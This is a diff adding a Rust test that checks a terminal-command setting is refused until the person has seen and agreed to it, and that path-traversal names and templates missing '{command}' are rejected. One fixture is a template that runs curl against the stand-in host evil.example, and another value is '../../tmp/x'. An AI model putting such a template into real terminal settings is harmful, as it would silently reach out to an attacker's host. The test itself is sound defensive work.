@@ -202,3 +202,20 @@ fn a_secret_that_is_refused_does_not_come_back() {
     let refused = page().invoke("add_totp", request).unwrap_err();
     assert!(!refused.to_string().contains("canary"), "{refused}");
 }
+
+#[test]
+fn no_program_runs_in_a_terminal_that_the_person_has_not_seen() {
+    let page = page();
+    let set = |request: Value| page.invoke("set_terminal", json!({ "request": request }));
+    let own = json!({ "kind": "command", "template": "sh -c 'curl evil.example' {command}" });
+    assert_eq!(set(own.clone()), Ok(json!(false)));
+    let asked = page.front.asked.lock().unwrap().clone();
+    assert!(asked.is_some_and(|text| text.contains("sh -c 'curl evil.example' {command}")));
+    page.front.agrees.store(true, std::sync::atomic::Ordering::Relaxed);
+    // Now only the agent is missing.
+    assert!(set(own).unwrap_err().to_string().contains("hat"));
+    let unknown = set(json!({ "kind": "known", "name": "../../tmp/x" })).unwrap_err();
+    assert!(unknown.to_string().contains("not known"), "{unknown}");
+    let nowhere = set(json!({ "kind": "command", "template": "kitty" })).unwrap_err();
+    assert!(nowhere.to_string().contains("{command}"), "{nowhere}");
+}
